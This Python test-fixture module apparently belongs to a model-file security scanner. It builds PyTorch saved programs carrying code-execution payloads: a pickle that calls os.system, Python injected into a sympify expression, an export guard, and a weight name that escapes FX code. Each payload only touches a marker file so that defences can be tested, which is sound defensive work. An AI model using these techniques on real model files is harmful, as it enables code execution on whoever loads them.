"""Saved ExportedPrograms (``torch.export.save``) that carry a payload, for the attack pass and the
unit tests of ``aoti_guard/builder/resolve/saved_program.py``.

``make_program`` saves a real tiny program (a Linear with a dynamic batch); each entry of
``PAYLOADS`` rewrites one of its entries so that loading or running it with plain torch 2.13 runs
``touch MARKER``: a pickle in each place torch unpickles, a ``sympify`` expression, an export
guard (run by ``ExportedProgram.module()``) and a weight's name (pasted into the FX code of
``module()``). A defence holds when the marker file never appears.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import shlex
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

__all__ = ["PAYLOADS", "make_program", "plant"]

_MAKE = """
import sys, torch
class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 3)
    def forward(self, x):
        return self.lin(x).relu()
batch = torch.export.Dim("batch", min=1, max=64)
ep = torch.export.export(M(), (torch.randn(2, 4),), dynamic_shapes=({0: batch},))
torch.export.save(ep, sys.argv[1])
"""


def make_program(path: Path, *, timeout_s: float = 120) -> Path:
    """A real saved program at ``path`` (made in a child: the caller's torch state stays as it was)."""
    subprocess.run([sys.executable, "-c", _MAKE, str(path)], check=True, capture_output=True, timeout=timeout_s)
    return path


class _System:
    """Pickles as a call of ``os.system(command)``: what a hostile pickle does when unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))


def _touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _pickle(marker: Path) -> bytes:
    return pickle.dumps(_System(_touch(marker)), protocol=2)


# a rewrite changes the archive's entries (name -> bytes) in place
Rewrite = Callable[[dict[str, bytes], Path], None]


def _entry(entries: dict[str, bytes], suffix: str) -> str:
    return next(name for name in entries if name.endswith(suffix))


def _sample_inputs(entries: dict[str, bytes], marker: Path) -> None:
    # torch.load(weights_only=True) refuses it, and torch.export.load retries with weights_only=False
    entries[_entry(entries, "data/sample_inputs/model.pt")] = _pickle(marker)


def _pickled_weight(entries: dict[str, bytes], marker: Path) -> None:
    # a weight marked use_pickle is read with torch.load(weights_only=False)
    name = _entry(entries, "data/weights/model_weights_config.json")
    config = json.loads(entries[name])
    config["config"]["lin.bias"]["use_pickle"] = True
    entries[name] = json.dumps(config).encode()
    entries[_entry(entries, "data/weights/" + config["config"]["lin.bias"]["path_name"])] = _pickle(marker)


def _opaque_constant(entries: dict[str, bytes], marker: Path) -> None:
    # an opaque constant is read with pickle.loads
    name = _entry(entries, "data/constants/model_constants_config.json")
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    entries[name] = json.dumps({"config": {"evil": entry}}).encode()
    entries[name.rsplit("/", 1)[0] + "/opaque_obj_0"] = _pickle(marker)


def _expression(entries: dict[str, bytes], marker: Path) -> None:
    # torch's deserializer hands every symbolic size to sympy.sympify, which is eval
    name = _entry(entries, "models/model.json")
    payload = f"__import__('os').system({_touch(marker)!r}) or ".replace('"', '\\"')
    entries[name] = re.sub(r'("expr_str": ")', lambda m: m.group(1) + payload, entries[name].decode(), count=1).encode()


def _guard(entries: dict[str, bytes], marker: Path) -> None:
    # ExportedProgram.module() compiles the export guards into a function run on every call
    name = _entry(entries, "models/model.json")
    program = json.loads(entries[name])
    program["guards_code"] = [f"__import__('os').system({_touch(marker)!r}) == 0"]
    entries[name] = json.dumps(program).encode()


def _weight_name(entries: dict[str, bytes], marker: Path) -> None:
    # module() pastes a weight's name into FX code, getattr(self.lin, "NAME"), split at its dots
    command = f"str(bytes({list(_touch(marker).encode())}), 'utf8')"  # a path has dots: FX would split it there
    evil = f'lin.w" if getattr(__import__("os"), "system")({command}) else "w'
    for suffix in ("models/model.json", "data/weights/model_weights_config.json"):
        name = _entry(entries, suffix)
        entries[name] = entries[name].replace(b'"lin.weight"', json.dumps(evil).encode())


PAYLOADS: dict[str, tuple[Rewrite, str]] = {
    "sample-inputs": (_sample_inputs, "a pickle in data/sample_inputs/model.pt"),
    "pickled-weight": (_pickled_weight, "a weight marked use_pickle whose bytes are a pickle"),
    "opaque-constant": (_opaque_constant, "an opaque constant (pickle.loads)"),
    "expression": (_expression, "a symbolic size that is Python (sympy.sympify is eval)"),
    "guard": (_guard, "an export guard that is Python (module() runs it)"),
    "weight-name": (_weight_name, "a weight name that closes FX's string literal"),
}


def plant(program: Path, out: Path, payload: str, marker: Path) -> Path:
    """A copy of ``program`` at ``out`` with ``payload`` (a key of PAYLOADS) planted."""
    rewrite, _ = PAYLOADS[payload]
    with zipfile.ZipFile(program) as zin:
        entries = {info.filename: zin.read(info) for info in zin.infolist()}
    rewrite(entries, marker)
    with zipfile.ZipFile(out, "w") as zout:
        for name, data in entries.items():
            zout.writestr(name, data)
    return out
